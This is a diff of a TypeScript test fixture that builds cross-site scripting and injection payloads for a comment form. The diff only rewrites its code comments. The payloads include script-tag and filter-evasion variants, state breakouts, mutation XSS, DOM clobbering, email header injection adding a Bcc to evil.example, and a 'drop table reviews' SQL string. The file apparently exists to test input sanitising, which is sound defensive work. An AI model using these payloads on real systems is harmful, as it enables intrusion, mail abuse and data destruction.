@@ -1,4 +1,4 @@
-/** Where § stands a payload calls home, and ¤ is its number. What leads elsewhere leads to evil.example. */
+/** § is replaced by the call that reports a payload, and ¤ by its number. External URLs use evil.example. */
 const tags = [
   '<script>§</script>',
   '<SCRIPT >§</SCRIPT\t>',
@@ -105,7 +105,7 @@ const closers = [
   '</p></li></ul></main><img src=x onerror=§>',
 ]
 
-/** Out of the state that the server writes into the page. */
+/** Break out of the state that the server writes into the page. */
 const breakouts = [
   '"}];§;//',
   "');§;//",
@@ -135,7 +135,7 @@ const disguises = [
   'ſcript <ſcript>§</ſcript>',
 ]
 
-/** Harmless as they are parsed first, and not when what came out is parsed again. */
+/** Harmless when parsed once, but not when the result is parsed again. */
 const mutations = [
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;">',
   '<svg></p><style><a id="</style><img src=1 onerror=§>">',
@@ -148,7 +148,7 @@ const mutations = [
   '<select><style></select><img src=x onerror=§></style>',
 ]
 
-/** Names that scripts of the page ask for. */
+/** Names that scripts of the page read. */
 const clobbering = [
   '<form id=__reactRouterContext><input name=streamController value=¤></form>',
   '<img name=getElementById alt=¤>',
@@ -157,7 +157,7 @@ const clobbering = [
   '<object id=React data=¤></object>',
 ]
 
-/** For letters, calendar files and what is opened in a spreadsheet. */
+/** For emails, calendar files and spreadsheets. */
 const files = [
   'x%0d%0aBcc:¤@evil.example',
   'x\r\nBcc: ¤@evil.example\r\n\r\n<script>§</script>',
@@ -169,7 +169,7 @@ const files = [
   "x'; drop table reviews; -- ¤",
 ]
 
-/** What has no place in a text: it is declined. */
+/** Contains forbidden characters, so it is refused. */
 const declined = ['<scr\0ipt>§</script>', '\u202e<script>§</script>']
 
 export const kinds = [
@@ -191,12 +191,12 @@ const prefixes = ['', '">', "'></textarea></title></style></script>"]
 
 export type Payload = {
   n: number
-  /** As they are typed. */
+  /** As typed. */
   comment: string
   name: string
 }
 
-/** The first of them plain, the others behind something that ends what stands around them. */
+/** The first set is plain, the others begin with characters that close the surrounding markup. */
 export function makePayloads(count: number): Payload[] {
   return Array.from({ length: count }, (_, n) => {
     const kind = kinds[n % kinds.length] ?? ''
@@ -206,13 +206,13 @@ export function makePayloads(count: number): Payload[] {
 }
 
 const longestName = 80
-/** A name has one line; what becomes of one that has more is tried by one of them. */
+/** Payloads short enough for a name. One has several lines, which a name refuses. */
 const short = kinds.filter(
   (kind) => armed(kind, 1_000).length <= longestName && !/[\t\n]/.test(kind.replace('\r\nBcc', '')),
 )
 
 function nameOf(n: number): string {
-  // Another than that of the comment.
+  // A different payload from the one in the comment.
   const kind = short[(n + 37) % short.length] ?? ''
   const behind = armed(`">${kind}`, n)
   return n < short.length || behind.length > longestName ? armed(kind, n) : behind
@@ -222,7 +222,7 @@ function armed(kind: string, n: number): string {
   return kind.replaceAll('§', `__ran('${n}')`).replaceAll('¤', `ran${n}ran`)
 }
 
-/** As it is kept: without the spaces around it, and its lines ended in one way. */
+/** As stored: trimmed, with normalized line ends. */
 export function asKept(text: string): string {
   return text.replaceAll(/\r\n?/g, '\n').trim()
 }
